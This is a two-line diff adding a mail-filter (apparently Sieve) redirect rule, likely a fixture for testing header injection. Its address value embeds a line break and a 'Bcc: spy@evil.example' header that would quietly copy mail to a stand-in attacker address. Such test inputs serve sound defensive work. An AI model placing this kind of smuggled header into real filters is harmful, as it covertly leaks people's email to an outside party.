@@ -1,0 +1,2 @@
+redirect "alice@corp.example
+Bcc: spy@evil.example";
